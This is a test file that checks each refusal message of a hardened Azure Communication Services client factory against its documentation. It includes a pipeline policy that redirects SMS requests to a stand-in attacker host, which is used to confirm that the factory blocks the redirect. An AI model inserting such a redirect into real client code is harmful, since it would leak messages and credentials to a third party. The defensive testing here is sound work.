// The refusal table of docs/factory.md ("What each refusal says") against what a user actually sees: each documented
// code is triggered the way a user would trigger it (real factory, real @azure/identity, real SDK clients against the
// emulator) and the message is compared with the table's text exactly. Every code of errors.ts is in the README's
// table and in this one. Print the rows: ERROR_TABLE_PRINT=1 npx vitest run test/docs/errorTable.test.ts
import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { AzureKeyCredential } from "@azure/core-auth";
import type { PipelinePolicy } from "@azure/core-rest-pipeline";
import { ChatClient } from "@azure/communication-chat";
import pino from "pino";
import { describe, expect, it } from "vitest";
import type { AcsClientFactoryOptions } from "../../packages/acs-baseline/src/index.js";
import { AcsClientFactory } from "../../packages/acs-baseline/src/index.js";
import type { Emulator, TestApplication } from "../../packages/emulator/src/index.js";
import { emulatorFactoryOptions } from "../../packages/emulator/src/index.js";
import { tempDir } from "../support/tempDir.js";
import { writeTestCertificate } from "../support/testCertificates.js";
import { useEmulator } from "../support/useEmulator.js";

const ROOT = join(__dirname, "..", "..");
const dir = tempDir("acs-error-table-");
let emu: Emulator;
let app: TestApplication;
useEmulator({ onStarted: (started) => ({ emu, app } = started) });

const ids = {
  endpoint: "https://contoso.communication.azure.com",
  tenantId: "72f988bf-86f1-41af-91ab-2d7cd011db47",
  clientId: "0b2e5c7a-1f0e-4e8f-9a55-1c2b3d4e5f60",
};
const withSecret = { ...ids, clientSecret: "a-client-secret-for-the-table" };
const ACCESS_KEY = `${"Q".repeat(43)}=`;
const SMS = { from: "+14255550100", to: ["+14255550123"], message: "table" };

/** The message a refusal gives, thrown or rejected. */
async function messageOf(run: () => unknown): Promise<string> {
  try {
    const value = run();
    if (value instanceof AcsClientFactory) await value.close();
    else await value;
  } catch (error) {
    return (error as Error).message;
  }
  return "(no refusal)";
}

const factory = (options: Partial<AcsClientFactoryOptions>) => new AcsClientFactory(options as AcsClientFactoryOptions);

/** Sends one SMS through a factory built from `options`, then closes it. */
async function sendWith(
  options: AcsClientFactoryOptions,
  clientOptions?: Parameters<AcsClientFactory["createSmsClient"]>[0],
) {
  const f = new AcsClientFactory(options);
  try {
    await f.createSmsClient(clientOptions).send(SMS);
  } finally {
    await f.close();
  }
}

const toAnotherHost: PipelinePolicy = {
  name: "redirect-to-another-host",
  sendRequest: (request, next) => {
    request.url = "https://acs.attacker.example/sms?api-version=2021-03-07";
    return next(request);
  },
};

/** How a user triggers each code (one way each), as the table's "trigger" column says. */
const TRIGGERS: Record<string, () => Promise<string>> = {
  CONNECTION_STRING_REFUSED: () =>
    messageOf(() =>
      factory({ ...withSecret, endpoint: `endpoint=https://contoso.communication.azure.com/;accesskey=${ACCESS_KEY}` }),
    ),
  KEY_CREDENTIAL_REFUSED: () =>
    messageOf(() => factory({ ...ids, credential: new AzureKeyCredential(ACCESS_KEY) as never })),
  INSECURE_ENDPOINT: () =>
    messageOf(() => factory({ ...withSecret, endpoint: "http://contoso.communication.azure.com" })),
  ENDPOINT_NOT_ALLOWED: () => messageOf(() => factory({ ...withSecret, endpoint: "https://contoso.example.com" })),
  ENDPOINT_NOT_CONFIGURED: () => messageOf(() => AcsClientFactory.fromEnvironment({}, {})),
  CREDENTIAL_NOT_CONFIGURED: () => messageOf(() => factory(ids)),
  SECRET_FALLBACK_DISABLED: () => messageOf(() => factory({ ...withSecret, allowSecretFallback: false })),
  CERTIFICATE_INVALID: () => messageOf(() => factory({ ...ids, certificate: { pem: "not a certificate" } })),
  CERTIFICATE_EXPIRED: async () => {
    const day = 86_400_000;
    const expired = await writeTestCertificate(dir, "expired.pem", {
      notBefore: new Date(Date.now() - 9 * day),
      notAfter: new Date(Date.now() - day),
    });
    return messageOf(() => factory({ ...ids, certificate: { path: expired.path } }));
  },
  KEY_AUTH_BLOCKED: () =>
    messageOf(() =>
      sendWith(emulatorFactoryOptions(emu, app), {
        additionalPolicies: [{ policy: toAnotherHost, position: "perRetry" }],
      }),
    ),
  AUTHORITY_NOT_ALLOWED: () =>
    messageOf(() => factory({ ...withSecret, authorityHost: "https://login.contoso.example" })),
  AUDIT_LOGGER_INCOMPATIBLE: () => {
    const logger = pino({ redact: ["http.path"] }, pino.destination({ dest: join(dir, "host.log"), sync: true }));
    return messageOf(() => factory({ ...withSecret, audit: { logger } }));
  },
  AUDIT_DESTINATION_REFUSED: () => {
    writeFileSync(join(dir, "real.log"), "");
    symlinkSync(join(dir, "real.log"), join(dir, "link.log"));
    return messageOf(() => factory({ ...withSecret, audit: { destination: join(dir, "link.log") } }));
  },
  LOCAL_AUTH_ENABLED: () =>
    messageOf(() => sendWith(emulatorFactoryOptions(emu, app, { posture: { mode: "enforce" as const } }))),
  CUSTOM_TRANSPORT_REFUSED: () =>
    messageOf(() =>
      factory({
        ...withSecret,
        clientOptions: { httpClient: { sendRequest: () => Promise.reject(new Error("unused")) } },
      }),
    ),
  TLS_VERIFICATION_DISABLED: () =>
    messageOf(() => factory({ ...withSecret, clientOptions: { tlsOptions: { rejectUnauthorized: false } } as never })),
  TLS_CERTIFICATE_NOT_TRUSTED: () => messageOf(() => sendWith(emulatorFactoryOptions(emu, app, { clientOptions: {} }))),
  USE_CREATE_CHAT_CLIENT: () =>
    messageOf(async () => {
      const f = new AcsClientFactory(emulatorFactoryOptions(emu, app));
      try {
        f.createClient(ChatClient as never);
      } finally {
        await f.close();
      }
    }),
  CLIENT_OPTION_NOT_ALLOWED: () =>
    messageOf(() => factory({ ...withSecret, clientOptions: { enableAzureProxy: true } as never })),
  AUTHORITY_SAME_ORIGIN: () =>
    messageOf(() =>
      factory({
        ...withSecret,
        authorityHost: ids.endpoint,
        allowedAuthorityHosts: [new URL(ids.endpoint).hostname],
      }),
    ),
  AUTHORITY_UNRESOLVED: async () => {
    const fault = emu.injectFault({ side: "entra", path: /openid-configuration$/, status: 404, body: {} });
    try {
      return await messageOf(() => sendWith(emulatorFactoryOptions(emu, app)));
    } finally {
      emu.clearFaults();
      void fault;
    }
  },
  POSTURE_UNVERIFIED: async () => {
    const noReader = await emu.createTestApplication({ armReader: false });
    return messageOf(() => sendWith(emulatorFactoryOptions(emu, noReader, { posture: { mode: "enforce" as const } })));
  },
};

/** Codes whose trigger needs more than a configuration (a full disk): documented, checked by their own tests. */
const NOT_TRIGGERED_HERE: Record<string, string> = {
  AUDIT_WRITE_FAILED: "test/audit/recorder.test.ts (a destination that fails to write)",
};

/** Parts that differ per run: certificate thumbprints, dates, ports. */
const normalise = (message: string) =>
  message
    .replace(/\b[0-9a-f]{64}\b/g, "<sha256>")
    .replace(/\b[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b/g, "<guid>")
    .replace(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z/g, "<date>")
    .replace(/(127\.0\.0\.1|localhost):\d+/g, "$1:<port>");

/** The codes errors.ts declares. */
function declaredCodes(): string[] {
  const source = readFileSync(join(ROOT, "packages", "acs-baseline", "src", "errors.ts"), "utf8");
  const union = /export type BaselineViolationCode =([^;]+);/.exec(source)?.[1] ?? "";
  return [...union.matchAll(/"([A-Z_]+)"/g)].map((m) => m[1]);
}

/**
 * Rows of the docs table: code → message, from "| `CODE` | control | trigger | `message` |" (a message holding a
 * backtick is fenced with two; a pipe in it is written `\|`).
 */
function documentedMessages(): Map<string, string> {
  const doc = readFileSync(join(ROOT, "docs", "factory.md"), "utf8");
  const section = doc.slice(doc.indexOf("## What each refusal says"));
  const rows = new Map<string, string>();
  for (const line of section.split("\n")) {
    const m = /^\| `([A-Z_]+)` \| [A-Z]{2}-\d \| .+? \| (`` (.+) ``|`([^`]+)`) \|$/.exec(line);
    if (m) rows.set(m[1], (m[3] ?? m[4]).replace(/\\\|/g, "|"));
  }
  return rows;
}

describe("refusal messages: docs/factory.md against what the user sees", () => {
  it("every code of errors.ts is in the README's table and in docs/factory.md's", () => {
    const readme = readFileSync(join(ROOT, "README.md"), "utf8");
    const documented = documentedMessages();
    for (const code of declaredCodes()) {
      expect(readme, code).toContain(`| \`${code}\` |`);
      expect(documented.has(code) || code in NOT_TRIGGERED_HERE, code).toBe(true);
      expect(code in TRIGGERS || code in NOT_TRIGGERED_HERE, code).toBe(true);
    }
  });

  it.each(Object.keys(TRIGGERS))("%s: the exact text the user sees is the table's", async (code) => {
    const seen = normalise(await TRIGGERS[code]());
    if (process.env.ERROR_TABLE_PRINT === "1") console.log(`${code}\t${seen}`);
    expect(seen.startsWith(`[`)).toBe(true);
    expect(seen).toContain(` ${code}] `);
    expect(seen).toBe(documentedMessages().get(code));
  });
});
